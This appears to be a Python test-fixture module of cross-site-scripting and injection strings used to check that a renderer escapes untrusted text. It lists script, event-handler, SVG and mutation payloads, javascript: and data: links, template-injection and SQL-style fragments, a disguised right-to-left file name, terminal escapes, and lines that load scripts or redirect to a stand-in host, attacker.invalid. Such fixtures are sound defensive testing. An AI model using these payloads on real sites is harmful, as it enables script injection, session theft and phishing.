"""Texts that become markup, scripts or links where they are shown carelessly (TH1); they call `owned`."""

from __future__ import annotations

_RUN = "owned()"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<SCRiPT\n>{_RUN}</SCRiPT>",
    '<script src="http://attacker.invalid/x.js"></script>',
    f'<script src="data:text/javascript,{_RUN}"></script>',
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"'\"><script>{_RUN}</script>",
)

HANDLERS = (
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror={_RUN}//",
    f'"><img src=x onerror={_RUN}>',
    f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<style onload={_RUN}></style>",
    f"<x-y tabindex=1 autofocus onfocus={_RUN}>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    f"' onfocus='{_RUN}' autofocus tabindex='1",
    f"` onfocus=`{_RUN}` autofocus",
)

VECTORS = (
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={_RUN} src>">',
)

LINKS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://example.invalid/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD4{'b3duZWQoKTwvc2NyaXB0Pg'}",
    f"vbscript:{_RUN}",
    f'<a href="javascript:{_RUN}" autofocus>x</a>',
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<object data="data:text/html,<script>{_RUN}</script>"></object>',
    "<embed src=//attacker.invalid/x.swf>",
    "<base href=//attacker.invalid/>",
    '<meta http-equiv=refresh content="0;url=http://attacker.invalid/">',
    '<link rel=stylesheet href="http://attacker.invalid/x.css">',
    "//attacker.invalid/%2e%2e",
    f'<form action="javascript:{_RUN}"><button autofocus>x</button></form>',
)

STYLES = (
    "<style>*{display:none;background:url(//attacker.invalid/)}</style>",
    '<div style="position:fixed;inset:0;background:url(//attacker.invalid/x)">',
    f"x;background:url(javascript:{_RUN})",
    f"expression({_RUN})",
)

TEMPLATES = (
    "{{constructor.constructor('owned()')()}}",
    "${owned()}",
    "#{owned()}",
    "<%= owned() %>",
    "{{7*7}}[[7*7]]",
    "[x](javascript:owned())",
    "![x](x onerror=owned())",
    "<https://attacker.invalid>",
)

NAMES = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "__html",
    "dangerouslySetInnerHTML",
    "key",
    "ref",
    "then",
    "null",
)

ENTITIES = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
)

BREAKS = (
    f'"}}]}}</script><img src=x onerror={_RUN}>',
    f"\\'\\\"-{_RUN}-\\\"\\'",
    f"\u2028{_RUN}\u2029",
    "../../../../#/letters?q=%00",
    "#q=%3Cimg%20src%3Dx%20onerror%3Downed()%3E",
    f"queue:\"x\" OR '1'='1' -- {_RUN}",
)

UNSEEN = (
    "invoice\u202egpj.exe",
    "\u2066\u2067\u2068left\u2069right",
    "a\u200bb\ufeffc\u00add",
    "\x1b]0;owned\x07\x1b[2Jred",
    "before\x00after\x08\x7f\x9b",
    "line\rpaid: yes",
    "\U000e0041\U000e007ftags",
    "noncharacters \ufffe\uffff",
)

LONG = ("A" * 6_000, "\U0001f4a3" * 2_000, "a\u0300" * 1_500)

EVERY: tuple[str, ...] = (
    *SCRIPTS,
    *HANDLERS,
    *VECTORS,
    *LINKS,
    *STYLES,
    *TEMPLATES,
    *NAMES,
    *ENTITIES,
    *BREAKS,
    *UNSEEN,
    *LONG,
)
